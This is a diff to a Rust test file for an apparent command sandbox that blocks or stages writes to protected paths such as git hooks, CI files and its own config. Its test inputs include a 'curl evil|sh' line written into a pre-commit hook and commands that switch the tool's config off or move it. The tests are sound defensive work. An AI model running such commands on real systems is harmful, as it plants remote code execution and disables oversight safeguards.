@@ -11,7 +11,7 @@ mod common;
 use std::io::Write;
 use std::os::unix::fs::PermissionsExt;
 
-use common::{Fixture, read, stderr, stdout};
+use common::{Fixture, changed, read, stderr, stdout};
 
 #[test]
 fn control_writes_inside_the_location_succeed() {
@@ -79,12 +79,15 @@ fn write_git_hooks() {
     let f = Fixture::new();
     f.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
     f.write(".git/HEAD", "ref: refs/heads/main\n");
+    // Unstaged (a machine without overlays): the existing protected place
+    // is read-only.
     let out = f.run("echo 'curl evil|sh' > \"$WS/.git/hooks/pre-commit\"");
     assert!(!out.status.success());
     assert!(!f.ws.join(".git/hooks/pre-commit").exists());
-    // …while ordinary git state stays writable.
-    let out = f.run("echo 'ref: refs/heads/topic' > \"$WS/.git/HEAD\"");
-    assert!(out.status.success());
+    // Staged: the write is held apart and named for the gate to judge.
+    let (_, changes) = f.run_staged("echo 'curl evil|sh' > \"$WS/.git/hooks/pre-commit\"");
+    assert!(!f.ws.join(".git/hooks/pre-commit").exists());
+    assert_eq!(changed(&changes, &f.ws), [".git/hooks/pre-commit"]);
 }
 
 #[test]
@@ -118,16 +121,28 @@ fn write_git_config() {
 #[test]
 fn write_toolgate_config() {
     let f = Fixture::new();
-    // Missing: the command may not create it.
-    let out = f
-        .run("mkdir -p \"$WS/.toolgate\" && echo 'mode = \"off\"' > \"$WS/.toolgate/config.toml\"");
-    assert!(!out.status.success());
+    // Missing: created in the stage, nothing in the location.
+    let (_, changes) = f.run_staged(
+        "mkdir -p \"$WS/.toolgate\" && echo 'mode = \"off\"' > \"$WS/.toolgate/config.toml\"",
+    );
     assert!(!f.ws.join(".toolgate").exists());
-    // Present: the command may not change it, nor move it away.
+    assert_eq!(
+        changed(&changes, &f.ws),
+        [".toolgate", ".toolgate/config.toml"]
+    );
+    // Present: changing it or moving it away are changes to it.
     let config = f.write(".toolgate/config.toml", "mode = \"default\"\n");
-    let out = f.run(
+    let (_, changes) = f.run_staged(
         "echo 'mode = \"off\"' > \"$WS/.toolgate/config.toml\"; mv \"$WS/.toolgate\" \"$WS/moved\"",
     );
+    assert_eq!(read(&config), "mode = \"default\"\n");
+    let names = changed(&changes, &f.ws);
+    assert!(
+        names.contains(&".toolgate/config.toml".to_string()),
+        "{names:?}"
+    );
+    // Unstaged, the existing file is read-only.
+    let out = f.run("echo 'mode = \"off\"' > \"$WS/.toolgate/config.toml\"");
     assert!(!out.status.success());
     assert_eq!(read(&config), "mode = \"default\"\n");
 }
@@ -141,7 +156,7 @@ fn write_bashrc_in_home() {
 }
 
 #[test]
-fn other_protected_paths_are_read_only() {
+fn protected_paths_that_do_not_exist_are_staged_not_shown() {
     let f = Fixture::new();
     for rel in [
         ".envrc",
@@ -150,22 +165,25 @@ fn other_protected_paths_are_read_only() {
         ".vscode/tasks.json",
         ".github/workflows/ci.yml",
         ".gitlab-ci.yml",
+        "services/api/.envrc",
+        "services/api/.claude/settings.json",
     ] {
-        let out = f.run(&format!(
+        let (out, changes) = f.run_staged(&format!(
             "mkdir -p \"$(dirname \"$WS/{rel}\")\"; echo evil > \"$WS/{rel}\""
         ));
-        assert!(!out.status.success(), "{rel}");
+        assert!(out.status.success(), "{rel}");
         assert!(!f.ws.join(rel).exists(), "{rel}");
+        assert!(changed(&changes, &f.ws).contains(&rel.to_string()), "{rel}");
     }
+    // No phantoms: an empty location lists empty inside.
+    let out = f.run("ls -A \"$WS\"");
+    assert_eq!(stdout(&out), "", "placeholders shown");
     let leftovers: Vec<_> = std::fs::read_dir(&f.ws)
         .unwrap()
         .flatten()
         .map(|e| e.file_name())
         .collect();
-    assert!(
-        leftovers.is_empty(),
-        "placeholders left behind: {leftovers:?}"
-    );
+    assert!(leftovers.is_empty(), "left behind: {leftovers:?}");
 }
 
 #[test]
